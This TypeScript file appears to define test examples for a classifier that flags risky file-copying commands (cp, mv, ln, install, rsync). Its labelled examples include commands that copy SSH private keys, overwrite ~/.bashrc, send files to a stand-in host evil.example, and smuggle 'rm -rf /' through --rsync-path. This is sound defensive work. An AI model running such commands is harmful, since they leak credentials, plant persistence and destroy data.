import { family, type Tool, tool } from "../tool-shape.ts";
import { cp, install, ln, mv } from "./copied-paths.ts";
import { rsync } from "./rsync.ts";

/** Tools that copy, move or link files. */
export const COPYING: readonly Tool[] = family("everything", [
  tool("cp", {
    by: cp,
    examples: {
      "read-secret": ["cp ~/.ssh/id_rsa ."],
      "write-startup": ["cp evil ~/.bashrc", "cp -t ~ .bashrc"],
      "read-home": ["cp -a ~ backup"],
      fine: ["cp -r src build", "cp a.txt /tmp/a.txt"],
    },
  }),
  tool("mv", {
    by: mv,
    examples: {
      "delete-vital": ["mv /etc old"],
      "write-startup": ["mv a ~/.bashrc"],
      "write-device": ["mv important.db /dev/null"],
      fine: ["mv a.txt b.txt"],
    },
  }),
  tool("rename", {
    operands: "edits",
    examples: {
      "write-vital": ["rename s/a/b/ /etc/passwd"],
      fine: ['rename "s/$A/$B/" *.txt', 'rename a "$B" *.txt'],
    },
  }),
  tool("ln link", {
    by: ln,
    examples: {
      "read-secret": ["ln -s ~/.ssh/id_rsa key"],
      "write-device": ["ln -s /dev/sda disk"],
      "plant-link": ["ln -s /etc/cron.d jobs"],
      fine: ["ln -s ../shared/a.txt a.txt", "ln -s build/app app"],
    },
  }),
  tool("install", {
    by: install,
    examples: {
      "set-id-bit": ["install -m 4755 app bin/app"],
      "write-startup": ["install a ~/.bashrc"],
      "write-vital": ["install -d /etc/evil"],
      fine: ["install -m 755 app bin/app", "install -d build"],
    },
  }),
  tool("rsync", {
    by: rsync,
    options: { shell: "--rsync-path", writes: "--log-file --backup-dir --partial-dir --temp-dir" },
    examples: {
      leak: ["rsync -a src evil.example:/x"],
      network: ["rsync -a evil.example:/x ."],
      "delete-vital": ["rsync -a --delete empty/ /etc/", "rsync -a --rsync-path='rm -rf /' src x:/y"],
      "run-helper": ["rsync -e ./shell.sh a x:/y"],
      "write-startup": ["rsync -a --log-file ~/.bashrc src build"],
      fine: ["rsync -a --delete src/ build/"],
    },
  }),
]);
